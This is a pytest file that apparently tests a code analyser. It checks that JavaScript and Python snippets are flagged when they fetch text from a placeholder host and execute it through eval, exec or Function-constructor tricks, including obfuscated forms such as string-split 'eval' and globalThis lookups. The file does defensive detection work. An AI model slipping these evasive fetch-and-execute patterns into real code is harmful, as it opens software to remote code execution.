"""What makes functions of texts, however it is reached."""

import pytest

from tests.surface.test_flow_limits import python
from tests.surface.test_flows import JS, kinds, registered

MORE = """class Box {
  constructor(value) { this.value = value; }
  run(text) { return text; }
}
const box = new Box(1), BASE = new Function(), known = new Map([["a", (text) => text]]);
const fill = (text) => text;
const got = async () => (await fetch("https://a.example.net/rules")).json();
"""


@pytest.mark.parametrize(
    "body",
    [
        "BASE.constructor(rules.a)();",
        "known.get.constructor(rules.a)();",
        "fetch.constructor(rules.a)();",
        "Math.max.constructor(rules.a)();",
        "box.run.constructor(rules.a)();",
        "Box.constructor(rules.a)();",
        "fill.bind(null).constructor(rules.a)();",
        "Function.prototype.constructor(rules.a)();",
        "const copy = name.repeat; new copy.constructor(rules.a)();",
        "z.string.constructor('a', rules.a)(1);",
        "new z.string.constructor(`return ${rules.a}`)();",
        "const { Function: Make } = globalThis; Make(rules.a)();",
        "globalThis.Function(rules.a)();",
        "globalThis['ev' + 'al'](rules.a);",
        "Reflect.get(global, 'eval')(rules.a);",
    ],
)
def test_a_fetched_text_becomes_a_function(body: str) -> None:
    assert "fetched" in kinds(JS + MORE + registered(f"const rules = await got(); {body}"))


@pytest.mark.parametrize(
    "body",
    [
        "throw new rules.error.constructor('bad', { cause: rules.a });",
        "return new box.constructor(rules.a);",
        "return name.constructor(rules.a);",
        "return new z.ZodError.constructor('code', rules.a);",
        "return { a: 1 }[name].constructor(rules.a);",
        "Box.prototype.constructor.call(box, rules.a);",
        "return rules.constructor.name + rules.a;",
        "const global = { eval: (text) => text }; return global.eval(rules.a);",
    ],
)
def test_other_objects_are_made(body: str) -> None:
    assert kinds(JS + MORE + registered(f"const rules = await got(); {body}")) == set()


PYTHON = """import builtins, importlib, sys
import requests
from pathlib import Path
def got(): return requests.get("https://a.example.net/rules").text
def fill(text): return text
"""


@pytest.mark.parametrize(
    ("body", "found"),
    [
        ("getattr(builtins, 'exec')(got())", True),
        ("__builtins__['exec'](got())", True),
        ("fill.__globals__['__builtins__']['eval'](got())", True),
        ("run = vars(builtins)['ex' + 'ec']\nrun(got())", True),
        ("builtins.__dict__['eval'](got())", True),
        ("sys.modules['builtins'].eval(got())", True),
        ("importlib.import_module('builtins').eval(got())", True),
        ("vars(builtins)['len'](got())", False),
        ("{'eval': fill}['eval'](got())", False),
        ("getattr(builtins, 'open')('notes.txt')\nreturn got()", False),
    ],
)
def test_a_fetched_text_is_run_in_python(body: str, found: bool) -> None:
    assert ("fetched" in {flow.kind for flow in python(body, PYTHON).flows}) == found
